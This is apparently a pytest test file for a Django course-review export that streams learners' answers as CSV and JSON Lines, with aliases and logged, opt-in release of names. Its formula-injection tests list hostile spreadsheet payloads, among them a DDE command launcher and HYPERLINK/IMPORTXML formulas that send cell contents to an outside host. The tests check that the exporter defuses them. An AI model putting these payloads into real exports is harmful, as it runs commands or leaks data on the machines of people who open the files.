"""What leaves the desk: CSV for spreadsheets, JSON Lines for programs, the platform's own report."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import uuid
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from opaque_keys.edx.keys import UsageKey

from casework import cli
from casework.blocks.case.block import CaseBlock
from casework.review import api, export
from casework.review.models import Answer, CaseVersion, Finish, NamesAsked, Review, Written
from casework.review.points import tallies
from casework.scenario import log, xml
from review import export_site, small_case
from review.small_case import COURSE, Play

pytestmark = pytest.mark.django_db
Desk = Callable[[str], Client]
EXPORT = f"/casework/review/{COURSE}/export/"


def whole(response: Any) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def sheet(asked: export.Asked | None = None) -> list[dict[str, str]]:
    asked = asked or export.Asked(COURSE)
    return table(b"".join(export.as_csv(asked, export.extent(asked).last)).decode())


def lines(asked: export.Asked | None = None) -> list[dict[str, Any]]:
    asked = asked or export.Asked(COURSE)
    return [json.loads(one) for one in b"".join(export.as_lines(asked, export.extent(asked).last)).splitlines()]


def finish_of(attempt: str) -> Finish:
    return Finish.objects.get(attempt=attempt)


@pytest.fixture
def names(settings: Any) -> None:
    for name, value in export_site.SETTINGS.items():
        setattr(settings, name, value)


# -- CSV --------------------------------------------------------------------------------------------------------------


def test_each_finished_attempt_is_a_row(place: api.Place, play: Play) -> None:
    row = finish_of(play(place, option="forms"))
    api.review(row.pk, "note", {"facts": 2, "link": 0}, "ดีมาก", "1")
    assert sheet() == [
        {
            "alias": row.alias, "case": "pier", "title": "ท่าเรือ & “pier” 🧭", "variant": "", "attempt": "1",
            "started_utc": "2026-11-24 09:00:00", "finished_utc": f"{row.finished:%Y-%m-%d %H:%M:%S}",
            "ending": "late", "outcome": "harmful", "points": "4", "machine": "2", "override": "", "maximum": "8",
            "waiting": "0", "harmful": "1", "missed": "first", "state": "reviewed", "id": str(row.pk),
            "pier/note": small_case.TEXT, "pier/note/facts": "2", "pier/note/link": "0",
        }
    ]  # fmt: skip


def test_an_override_stands_beside_the_machines_points(place: api.Place, play: Play) -> None:
    row = finish_of(play(place))
    api.override(row.pk, 1, "อธิบายปากเปล่า", "1")
    assert [(one["points"], one["machine"], one["override"]) for one in sheet()] == [("1", "4", "1")]
    api.override(row.pk, None, "ผิดพลาด", "1")
    assert [(one["points"], one["machine"], one["override"]) for one in sheet()] == [("4", "4", "")]


def test_the_points_are_those_of_the_desk(place: api.Place, play: Play) -> None:
    rows = [finish_of(play(replace(place, student_id=name * 32), text=text)) for name, text in
            [("a", "หนึ่ง"), ("b", "နှစ်"), ("c", None), ("d", "🧭")]]  # fmt: skip
    api.review(rows[0].pk, "note", {"facts": 2, "link": 2}, "", "1")
    api.review(rows[0].pk, "note", {"facts": 1, "link": 0}, "", "1")
    api.return_answer(rows[1].pk, "note", "ลองอีกครั้ง", "1")
    api.override(rows[3].pk, 0, "ไม่นับ", "1")
    counted = tallies(rows)
    told = sheet()
    assert [(int(one["points"]), int(one["waiting"])) for one in told] == [
        (counted[row.pk].points, counted[row.pk].waiting) for row in rows
    ]
    assert [one["state"] for one in told] == ["reviewed", "returned", "nothing", "waiting"]


def test_a_spreadsheet_takes_it_for_utf_8(desk: Desk, place: api.Place, play: Play) -> None:
    play(place)
    response = desk("instructor").get(f"{EXPORT}answers.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="answers-Org-SAFE-2026-\d{4}-\d\d-\d\d\.csv"', response["Content-Disposition"]
    )
    assert "no-store" in response["Cache-Control"]
    text = whole(response)
    assert text.startswith("\ufeffalias,case,title,")
    assert text.count("\r\n") == 2
    assert table(text)[0]["pier/note"] == small_case.TEXT


def test_the_columns_hold_for_every_case_and_version(place: api.Place, play: Play) -> None:
    play(place)
    other = small_case.CONTENT.replace('id="note"', 'id="why"').replace('id="pier"', 'id="arcade"')
    other = other.replace('row id="link"', 'row id="reason"')
    attempt = "11111111-1111-1111-1111-111111111111"
    words = api.keep_words(replace(place, item_id="other"), attempt, "event-0002", "why", "အဖြေ")
    log = [{**one, "task": "why"} if one["task"] == "note" else one for one in small_case.log(words)]
    api.finish(replace(place, item_id="other"), attempt=attempt, number=1, started=small_case.STARTED,
               content=xml.canonical(xml.tree(other, "arcade")), log=log, possible=None, counts="best")  # fmt: skip
    first, second = sheet()
    assert list(first)[-6:] == ["arcade/why", "arcade/why/facts", "arcade/why/reason",
                                "pier/note", "pier/note/facts", "pier/note/link"]  # fmt: skip
    assert (first["pier/note"], first["arcade/why"]) == (small_case.TEXT, "")
    assert (second["pier/note"], second["arcade/why"]) == ("", "အဖြေ")


def test_a_case_that_can_no_longer_be_read_is_told_by_its_fingerprint(place: api.Place, play: Play) -> None:
    row = finish_of(play(place))
    CaseVersion.objects.update(content="<case/>")
    (told,) = sheet()
    assert (told["case"], told["title"], told["outcome"]) == (row.case_id, "", "")
    assert told[f"{row.case_id}/note"] == small_case.TEXT
    assert lines()[0]["ending"] == "safe"


def test_without_texts_no_column_holds_one(place: api.Place, play: Play) -> None:
    row = finish_of(play(place))
    api.review(row.pk, "note", {"facts": 2, "link": 0}, "ความเห็น", "1")
    (told,) = sheet(export.Asked(COURSE, texts=False))
    assert "pier/note" not in told
    assert (told["pier/note/facts"], told["points"]) == ("2", "6")
    assert small_case.TEXT not in told.values()


def test_another_course_is_not_in_it(desk: Desk, place: api.Place, play: Play) -> None:
    play(replace(place, course_id=COURSE + "b"))
    play(replace(place, course_id=COURSE.lower()))
    assert sheet() == []
    response = desk("instructor").get(f"{EXPORT}answers.jsonl")
    assert whole(response) == ""
    assert response["Casework-Last"] == "0"


def test_a_forgotten_text_is_empty(place: api.Place, play: Play) -> None:
    play(place)
    api.forget_learner([place.student_id])
    assert sheet()[0]["pier/note"] == ""
    assert lines()[0]["answers"][0]["text"] == ""


# -- formulas ---------------------------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1", "\r=1",
    "\tplain", "\rplain", '"=1+1', "'=1+1", "“=1+1”", "„=1", "«=1»", "`=1", " =1+1", "\u00a0=1", "\ufeff=1", "\u200b=1",
    "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫a", "−1+1", "＂=1", '"\u200b ＝1', "==1", "=",
    '=HYPERLINK("http://example.org?x="&A1,"ดูที่นี่")', "=IMPORTXML(CONCAT(\"http://example.org?v=\",A1),\"//a\")",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(place: api.Place, play: Play, text: str) -> None:
    row = finish_of(play(place))
    Answer.objects.update(text=text)
    Finish.objects.filter(pk=row.pk).update(alias=text[:40], variant=text[:64], ending=text[:64], missed=text)
    (told,) = sheet()
    for column in ("alias", "variant", "ending", "missed", "pier/note"):
        value = told[column]
        assert value.startswith("'") or not re.match(
            r"\s*[\"'“„«`＂\ufeff\u200b]*\s*[=+\-@＝＋－＠﹦﹢﹣﹫−]|[\t\r]", value
        )
    assert told["pier/note"].startswith("'")


@pytest.mark.parametrize("text", ["สวัสดี ;=1+1", "a;  =1", "a\n=1+1", "a\r\n+1", 'a;"=1', "a\t@b", "ก;＝1"])
def test_none_is_one_where_semicolons_part_a_list(text: str) -> None:
    told = export.harmless(text)
    assert not re.search(r"[;\t\r\n]\s*\"?[=+\-@＝]", told)
    assert told.replace("'", "") == text


@pytest.mark.parametrize(
    "text", ["", "เขาอาจเป็นเด็ก", "a = b", "1-2", "မေး (=ask)", "🧭 + 🛟", "it's", "a, - b", "“quoted”"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert export.harmless(text) == text


def test_lines_have_the_text_as_it_was_written(place: api.Place, play: Play) -> None:
    play(place, text="=1+1\n- หนี้\u2028;=2")
    assert lines()[0]["answers"][0]["text"] == "=1+1\n- หนี้\u2028;=2"


# -- JSON Lines -------------------------------------------------------------------------------------------------------


def test_a_line_tells_the_way_and_all_that_was_added(place: api.Place, play: Play) -> None:
    row = finish_of(play(place, phrases=("decoy:rice", "indicator:debt")))
    api.return_answer(row.pk, "note", "บอกสิ่งที่เห็น", "41")
    api.review(row.pk, "note", {"facts": 1, "link": 0}, "ดีขึ้น", "7")
    api.review(row.pk, "note", {"facts": 2, "link": 0}, "", "41")
    api.override(row.pk, 3, "อธิบายปากเปล่า", "7")
    (told,) = lines()
    answer, override = told["answers"][0], told["overrides"][0]
    times = [one.pop("at") for one in [*answer["reviews"], *answer["returns"], override]]
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", one) for one in times)
    assert told == {
        "id": row.pk, "course": COURSE, "alias": row.alias,
        "case": {"id": "pier", "title": "ท่าเรือ & “pier” 🧭", "block": place.item_id, "fingerprint": row.case_id},
        "variant": "", "attempt": 1, "started": "2026-11-24T09:00:00Z", "finished": f"{row.finished:%Y-%m-%dT%H:%M:%SZ}",
        "ending": "safe", "outcome": "protective", "points": 5, "machine": row.machine, "override": 3, "maximum": 8,
        "waiting": 0, "skipped": 0, "harmful": 0, "missed": [], "state": "reviewed",
        "way": [
            {"task": "list", "phrases": ["decoy:rice", "indicator:debt"], "sure": None, "ms": 1000},
            {"task": "first", "option": "hear", "sure": 2, "ms": 1000},
            {"task": "note", "sure": None, "ms": 1000},
            {"task": "paper", "judgement": 1, "sure": None, "ms": 1000},
        ],
        "answers": [
            {
                "task": "note", "text": small_case.TEXT, "state": "reviewed", "most": 4,
                "reviews": [
                    {"reviewer": 2, "levels": {"facts": 1, "link": 0}, "comment": "ดีขึ้น"},
                    {"reviewer": 1, "levels": {"facts": 2, "link": 0}, "comment": ""},
                ],
                "returns": [{"reviewer": 1, "reason": "บอกสิ่งที่เห็น"}],
            }
        ],
        "overrides": [{"reviewer": 2, "points": 3, "reason": "อธิบายปากเปล่า"}],
    }  # fmt: skip


def test_a_skipped_scene_is_a_step_without_a_task(place: api.Place, play: Play) -> None:
    play(place, text=None)
    assert lines()[0]["way"][-1] == {"task": "", "sure": None, "ms": 1000}
    assert lines()[0]["answers"] == []


def test_without_texts_nothing_leaves_that_a_person_wrote(place: api.Place, play: Play) -> None:
    row = finish_of(play(place, text="ลับมาก"))
    api.return_answer(row.pk, "note", "เหตุผล", "1")
    api.review(row.pk, "note", {"facts": 1, "link": 0}, "ความเห็น", "1")
    api.override(row.pk, 3, "ปากเปล่า", "1")
    asked = export.Asked(COURSE, texts=False)
    for told in (json.dumps(lines(asked), ensure_ascii=False), json.dumps(sheet(asked), ensure_ascii=False)):
        for words in ("ลับมาก", "เหตุผล", "ความเห็น", "ปากเปล่า"):
            assert words not in told
    assert lines(asked)[0]["answers"][0]["reviews"][0]["levels"] == {"facts": 1, "link": 0}


def test_nobody_is_named(place: api.Place, play: Play) -> None:
    reviewer = get_user_model().objects.create(username="instructor", first_name="Ms S.")
    row = finish_of(play(place))
    api.review(row.pk, "note", {"facts": 1, "link": 0}, "", str(reviewer.pk + 900_000))
    for told in (json.dumps(lines()), json.dumps(sheet())):
        for name in (place.student_id, str(reviewer.pk + 900_000), row.attempt, row.submission, "event-0"):
            assert name not in told


def test_it_goes_on_behind_an_attempt(desk: Desk, place: api.Place, play: Play) -> None:
    rows = [finish_of(play(replace(place, student_id=name * 32))) for name in "abc"]
    for one in rows:
        api.review(one.pk, "note", {"facts": 1, "link": 0}, "", f"r{one.pk}")
    response = desk("instructor").get(f"{EXPORT}answers.jsonl", {"after": rows[0].pk})
    assert (response["Casework-Rows"], response["Casework-Last"]) == ("2", str(rows[2].pk))
    told = [json.loads(one) for one in whole(response).splitlines()]
    assert told == lines()[1:], "also the reviewers' numbers"
    assert whole(desk("instructor").get(f"{EXPORT}answers.jsonl", {"after": rows[2].pk})) == ""


def test_what_is_finished_while_a_file_is_written_is_not_in_it(place: api.Place, play: Play) -> None:
    play(place)
    asked = export.Asked(COURSE)
    until = export.extent(asked)
    parts = export.as_csv(asked, until.last)
    head = next(parts)
    play(replace(place, student_id="b" * 32))
    assert len(table((head + b"".join(parts)).decode())) == until.rows == 1


# -- who may, and names -----------------------------------------------------------------------------------------------


@pytest.mark.usefixtures("names")
@pytest.mark.parametrize("file", ["answers.csv", "answers.jsonl"])
def test_names_stand_beside_aliases_when_asked_for_and_that_is_recorded(
    desk: Desk, place: api.Place, play: Play, file: str
) -> None:
    for name in "ac":
        play(replace(place, student_id=name * 32))
    client = desk("instructor")
    response = client.get(f"{EXPORT}{file}", {"names": "yes"})
    asked = NamesAsked.objects.get()  # before a byte has left
    who = get_user_model().objects.get(username="instructor")
    assert (asked.course_id, asked.asked_by, asked.what) == (COURSE, str(who.pk), file)
    assert "with-names" in response["Content-Disposition"]
    text = whole(response)
    told = table(text) if file.endswith("csv") else [json.loads(one) for one in text.splitlines()]
    assert [one["username"] for one in told] == (["'=somchai-a", ""] if file.endswith("csv") else ["=somchai-a", ""])
    assert all(one["alias"] for one in told)


@pytest.mark.usefixtures("names")
@pytest.mark.parametrize("query", ["", "?names=no"])
def test_names_that_nobody_asked_for_do_not_leave(desk: Desk, place: api.Place, play: Play, query: str) -> None:
    play(place)
    for file in ("answers.csv", "answers.jsonl"):
        text = whole(desk("instructor").get(f"{EXPORT}{file}{query}"))
        assert "somchai" not in text and "username" not in text
    assert not NamesAsked.objects.exists()


@pytest.mark.parametrize("file", ["answers.csv", "answers.jsonl"])
def test_names_are_refused_where_the_platform_gives_none_out(
    desk: Desk, settings: Any, place: api.Place, play: Play, file: str
) -> None:
    settings.CASEWORK_USERNAMES = "review.export_site.usernames"
    play(place)
    response = desk("instructor").get(f"{EXPORT}{file}", {"names": "yes"})
    assert response.status_code == 403
    assert "somchai" not in response.content.decode()
    assert not NamesAsked.objects.exists()


@pytest.mark.parametrize("query", ["texts=maybe", "names=1", "names=", "after=x", "after=-1", "after=", "after=²",
                                   "after=9999999999999999999"])  # fmt: skip
@pytest.mark.parametrize("file", ["answers.csv", "answers.jsonl"])
def test_a_choice_that_there_is_not_is_refused(desk: Desk, file: str, query: str) -> None:
    response = desk("instructor").get(f"{EXPORT}{file}?{query}")
    assert response.status_code == 400
    assert not NamesAsked.objects.exists()


@pytest.mark.usefixtures("names")
def test_a_program_fetches_with_a_token(desk: Desk, place: api.Place, play: Play) -> None:
    play(place)
    client = desk("")
    for token, status in ((export_site.TOKEN, 200), (export_site.OTHER, 403), ("wrong", 403)):
        got = client.get(f"{EXPORT}answers.jsonl?names=yes", HTTP_AUTHORIZATION=f"Bearer {token}")
        assert got.status_code == status
    who = get_user_model().objects.get(username="instructor")
    assert [one.asked_by for one in NamesAsked.objects.all()] == [str(who.pk)]


@pytest.mark.usefixtures("names")
def test_a_question_for_the_head_records_and_sends_nothing(desk: Desk, place: api.Place, play: Play) -> None:
    play(place)
    response = desk("instructor").head(f"{EXPORT}answers.jsonl?names=yes")
    assert (response.status_code, response.content, response["Casework-Rows"]) == (200, b"", "1")
    assert not NamesAsked.objects.exists()


# -- the page ---------------------------------------------------------------------------------------------------------


def test_the_page_says_what_is_in_the_files(desk: Desk, place: api.Place, play: Play) -> None:
    for name in "abcde":
        play(replace(place, student_id=name * 32))
    page = desk("instructor").get(EXPORT).content.decode()
    assert "5 finished attempts" in page
    assert "casework answers http://testserver &#x27;course-v1:Org+SAFE+2026&#x27; --out" in page.replace(
        "course-v1:Org+SAFE+2026 --out", "&#x27;course-v1:Org+SAFE+2026&#x27; --out"
    )
    for link in ("answers.csv?texts=yes", "answers.csv?texts=no", "answers.jsonl?texts=yes", "answers.jsonl?texts=no"):
        assert f'href="{EXPORT}{link}"' in page
    assert "names=yes" not in page


def test_fewer_than_five_learners_are_not_counted(desk: Desk, place: api.Place, play: Play) -> None:
    for name in "aabbccdd":
        play(replace(place, student_id=name * 32))
    page = desk("instructor").get(EXPORT).content.decode()
    assert "Fewer than five learners" in page
    assert not re.search(r"\b8\b", page.split("<main", 1)[1])


def test_one_case_goes_out_alone(desk: Desk, place: api.Place, play: Play) -> None:
    other = replace(place, item_id=place.item_id + "-2")
    for name in "abcde":
        play(replace(place, student_id=name * 32))
    play(other)
    client, asked = desk("instructor"), {"item": other.item_id}
    page = client.get(EXPORT, asked).content.decode()
    assert f"--case {other.item_id} --out" in html.unescape(page)
    assert f'href="{EXPORT}answers.csv?texts=no&amp;item={quote(other.item_id)}"' in page
    assert "Fewer than five learners" in page
    assert "6 finished attempts" in client.get(EXPORT).content.decode()
    response = client.get(f"{EXPORT}answers.jsonl", asked)
    assert (response["Casework-Rows"], "pier-2" in response["Content-Disposition"]) == ("1", True)
    assert [json.loads(one)["case"]["block"] for one in whole(response).splitlines()] == [other.item_id]
    assert len(whole(client.get(f"{EXPORT}answers.csv", asked)).splitlines()) == 2
    assert client.get(EXPORT, {"item": "nothing"}).status_code == 404
    assert whole(client.get(f"{EXPORT}answers.jsonl", {"item": other.item_id.upper()})) == ""
    assert client.get(f"{EXPORT}answers.jsonl", {"item": "x" * 256}).status_code == 400


@pytest.mark.usefixtures("names")
def test_names_are_offered_where_they_are_given_out(desk: Desk) -> None:
    assert f'href="{EXPORT}answers.csv?names=yes"' in desk("instructor").get(EXPORT).content.decode()


# -- size -------------------------------------------------------------------------------------------------------------


def many(count: int, first: int = 0) -> None:
    """Finished attempts of as many learners, each with an answer and a review."""
    case, _ = CaseVersion.objects.get_or_create(
        pk="f" * 16, defaults={"content": small_case.CONTENT, "language": "th", "maximum": 8}
    )
    now = datetime(2026, 11, 24, tzinfo=UTC)
    place = {"course_id": COURSE, "item_id": "item"}
    numbers = range(first, first + count)
    Finish.objects.bulk_create(
        Finish(
            **place, student_id=f"{at}", attempt=f"{at}", submission=f"{uuid.UUID(int=at)}", alias=f"Heron {at}",
            number=1, case=case, ending="late", harmful=0, machine=2, skipped=0, maximum=8, possible=8, counts="best",
            started=now, finished=now,
        )
        for at in numbers
    )  # fmt: skip
    rows = {row.attempt: row for row in Finish.objects.filter(attempt__in=[f"{at}" for at in numbers])}
    answers = Answer.objects.bulk_create(
        Answer(**place, student_id=f"{at}", attempt=f"{at}", event="e", task="note", text=f"เขียน {at}", created=now)
        for at in numbers
    )
    Written.objects.bulk_create(
        Written(finish=rows[one.attempt], answer=one, task="note", most=4, **place, finished=now, state="reviewed")
        for one in answers
    )
    Review.objects.bulk_create(
        Review(finish=rows[one.attempt], answer=one, case=case, reviewer="1", levels={"facts": 1}, created=now)
        for one in answers
    )


@pytest.mark.parametrize(("told", "most"), [(export.as_csv, 4), (export.as_lines, 8)])
def test_each_chunk_costs_the_same_few_queries(
    monkeypatch: pytest.MonkeyPatch, told: Callable[[export.Asked, int], Iterator[bytes]], most: int
) -> None:
    many(120)
    asked = export.Asked(COURSE)
    counted = {}
    for chunk in (120, 60, 20, 10):
        monkeypatch.setattr(export, "CHUNK", chunk)
        with CaptureQueriesContext(connection) as queries:
            assert len(b"".join(told(asked, export.extent(asked).last)).splitlines()) >= 120
        counted[120 // chunk] = len(queries)
    once = counted[1] - most
    assert {chunks: once + most * chunks for chunks in counted} == counted
    assert once <= 8


@pytest.mark.parametrize("text", ["2026-11-24 15:30:00.123456", "2026-11-24 15:30:00+06:30", "2026-11-24 09:00:00+00"])
def test_a_time_that_a_database_keeps_elsewhere_is_told_in_utc(text: str) -> None:
    assert export._utc(text, ZoneInfo("Asia/Yangon")) == "2026-11-24 09:00:00"


def test_a_file_of_many_chunks_has_each_attempt_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "CHUNK", 7)
    many(50)
    assert [one["alias"] for one in sheet()] == [f"Heron {at}" for at in range(50)]
    assert [one["alias"] for one in lines()] == [f"Heron {at}" for at in range(50)]


def test_memory_does_not_grow_with_the_course(monkeypatch: pytest.MonkeyPatch) -> None:
    import tracemalloc

    monkeypatch.setattr(export, "CHUNK", 50)

    def peak() -> int:
        asked = export.Asked(COURSE)
        tracemalloc.start()
        for told in (export.as_csv, export.as_lines):
            for _ in told(asked, export.extent(asked).last):
                pass
        high = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return high

    many(200)
    peak()  # what is read once, such as the case, stays
    small = peak()
    many(1800, first=200)
    assert peak() < small * 1.3 + 100_000


# -- the platform's report --------------------------------------------------------------------------------------------


def test_the_platforms_report_tells_decisions_and_score_and_never_a_text(place: api.Place, play: Play) -> None:
    attempt = play(place, option="forms")
    row = finish_of(attempt)
    told = list(export.reported(COURSE, place.item_id, [("somchai", attempt), ("nobody", ""), ("running", "x" * 32)]))
    assert told == [
        (
            "somchai",
            {
                "Attempt": 1, "Variant": "", "Started (UTC)": "2026-11-24 09:00:00",
                "Finished (UTC)": f"{row.finished:%Y-%m-%d %H:%M:%S}", "Ending": "late", "Outcome": "harmful",
                "Points": 2, "Maximum": 8, "Waiting for review": 4, "Harmful choices": 1, "Key decisions missed": "first",
                "Decision: first": "forms (certain)",
            },
        )
    ]  # fmt: skip


def test_the_platforms_report_tells_every_attempt_also_while_another_runs(
    settings: Any, place: api.Place, play: Play
) -> None:
    play(place)
    play(place, number=2, option="forms")
    play(replace(place, item_id="elsewhere"))
    assert list(export.reported(COURSE, place.item_id, [("=somchai-a", "running")])) == []
    settings.CASEWORK_USERNAMES = "review.export_site.usernames"
    told = list(export.reported(COURSE, place.item_id, [("=somchai-a", "running"), ("", "")]))
    assert [(name, row["Attempt"], row["Ending"]) for name, row in told] == [
        ("=somchai-a", 1, "safe"),
        ("=somchai-a", 2, "late"),
    ]


def test_the_block_hands_the_platforms_states_on(place: api.Place, play: Play) -> None:
    attempt = play(place)
    usage = UsageKey.from_string(place.item_id)
    block: Any = SimpleNamespace(scope_ids=SimpleNamespace(usage_id=usage))
    kept = log.Attempt(attempt, 1, "2026-11-24T09:00:00+00:00", xml.fingerprint(small_case.CONTENT), over=True)
    states = [
        SimpleNamespace(username="somchai", state={"attempt": kept.json()}),
        SimpleNamespace(username="nang", state={}),
        SimpleNamespace(username="sok", state=None),
        SimpleNamespace(username="mali", state={"attempt": "x"}),
    ]
    told = list(CaseBlock.generate_report_data(block, iter(states)))
    assert [(name, row["Decision: first"], row["Ending"], row["Points"]) for name, row in told] == [
        ("somchai", "hear (certain)", "safe", 4)
    ]
    assert small_case.TEXT not in str(told)
    assert list(CaseBlock.generate_report_data(block, iter(states), 0)) == []


# -- the command, over a real server ----------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_the_command_fetches_what_the_desk_gives(
    names: None,
    address: str,
    place: api.Place,
    play: Play,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: Any,
) -> None:
    rows = [finish_of(play(replace(place, student_id=name * 32))) for name in "abc"]
    monkeypatch.setenv("NO_PROXY", "*")
    monkeypatch.setenv("CASEWORK_TOKEN", export_site.TOKEN)
    out = tmp_path / "answers.jsonl"
    command = ["answers", address, COURSE, "--out", str(out)]
    assert cli.main(command) == 0
    assert out.read_bytes() == b"".join(export.as_lines(export.Asked(COURSE), rows[2].pk))
    first = out.read_bytes().splitlines(keepends=True)[0]
    (tmp_path / "answers.jsonl.part").write_bytes(first + b"{")
    whole = out.read_bytes()
    out.unlink()
    assert cli.main(command) == 0
    assert out.read_bytes() == whole
    assert not NamesAsked.objects.exists()
    assert cli.main([*command, "--names"]) == 0
    assert [json.loads(one)["username"] for one in out.read_bytes().splitlines()] == ["=somchai-a", "=somchai-b", ""]
    assert NamesAsked.objects.count() == 1
    capsys.readouterr()
    monkeypatch.setenv("CASEWORK_TOKEN", export_site.OTHER)
    assert cli.main(command) == 1
    assert "(403)" in capsys.readouterr().err


# -- the page in a browser --------------------------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("width", [1130, 360])
def test_axe_finds_no_fault_and_nothing_runs_off_the_side(
    names: None, look: Callable[[int], Any], place: api.Place, play: Play, width: int
) -> None:
    from axe_playwright_python.sync_playwright import Axe

    for name in "abcde":
        play(replace(place, student_id=name * 32))
    play(replace(place, item_id=place.item_id + "-2"))
    page = look(width)
    assert page.goto(EXPORT).status == 200
    assert page.get_by_label("Case", exact=True).is_visible()
    found = Axe().run(page)
    assert found.violations_count == 0, found.generate_report()
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    if folder := os.environ.get("SCREENSHOTS"):
        page.screenshot(path=f"{folder}/export-{width}.png", full_page=True)
    with page.expect_download() as download:
        page.get_by_role("link", name="CSV with texts", exact=True).click()
    assert small_case.TEXT in Path(download.value.path()).read_text(encoding="utf-8-sig")
